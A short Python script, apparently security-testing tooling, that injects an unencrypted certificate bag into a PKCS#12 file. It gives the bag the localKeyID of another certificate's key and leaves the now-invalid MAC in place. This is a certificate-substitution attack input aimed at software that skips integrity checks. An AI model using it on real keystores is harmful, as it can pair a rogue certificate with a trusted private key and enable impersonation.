# red16b_p12inject.py IN.p12 CERT.pem ID_CERT.pem OUT.p12: IN with one more safe, unencrypted, in
# front: a certificate bag holding CERT with the localKeyID OpenSSL gives ID_CERT's key
# (the SHA-1 of ID_CERT). The MAC is left as it was: no password is needed, and it no
# longer verifies with any password.
import base64, hashlib, sys

def tlv(data, i):
    tag = data[i]; i += 1
    n = data[i]; i += 1
    if n & 0x80:
        k = n & 0x7F
        n = int.from_bytes(data[i:i + k], "big"); i += k
    return tag, i, i + n  # tag, content start, end

def enc(tag, content):
    n = len(content)
    if n < 0x80:
        ln = bytes([n])
    else:
        b = n.to_bytes((n.bit_length() + 7) // 8, "big")
        ln = bytes([0x80 | len(b)]) + b
    return bytes([tag]) + ln + content

def oid(dotted):
    p = [int(x) for x in dotted.split(".")]
    out = bytes([40 * p[0] + p[1]])
    for v in p[2:]:
        chunk = [v & 0x7F]
        v >>= 7
        while v:
            chunk.append(0x80 | (v & 0x7F)); v >>= 7
        out += bytes(reversed(chunk))
    return enc(0x06, out)

def pem_der(path):
    text = open(path).read()
    b64 = text.split("-----BEGIN CERTIFICATE-----")[1].split("-----END CERTIFICATE-----")[0]
    return base64.b64decode("".join(b64.split()))

src, cert, idcert, dst = sys.argv[1:5]
pfx = open(src, "rb").read()
_, s, e = tlv(pfx, 0)                    # PFX SEQUENCE
_, vs, ve = tlv(pfx, s)                  # version
_, as_, ae = tlv(pfx, ve)                # authSafe ContentInfo
_, os_, oe = tlv(pfx, as_)               # contentType OID (data)
_, x0s, x0e = tlv(pfx, oe)               # [0]
_, ocs, oce = tlv(pfx, x0s)              # OCTET STRING: AuthenticatedSafe
_, sqs, sqe = tlv(pfx, ocs)              # SEQUENCE OF ContentInfo
safes = pfx[sqs:sqe]
key_id = hashlib.sha1(pem_der(idcert)).digest()
bag = enc(0x30, oid("1.2.840.113549.1.12.10.1.3") +
          enc(0xA0, enc(0x30, oid("1.2.840.113549.1.9.22.1") + enc(0xA0, enc(0x04, pem_der(cert))))) +
          enc(0x31, enc(0x30, oid("1.2.840.113549.1.9.21") + enc(0x31, enc(0x04, key_id)))))
ci = enc(0x30, oid("1.2.840.113549.1.7.1") + enc(0xA0, enc(0x04, enc(0x30, bag))))
auth = enc(0x30, ci + safes)
authsafe = enc(0x30, pfx[as_:oe] + enc(0xA0, enc(0x04, auth)))
open(dst, "wb").write(enc(0x30, pfx[s:ve] + authsafe + pfx[ae:e]))
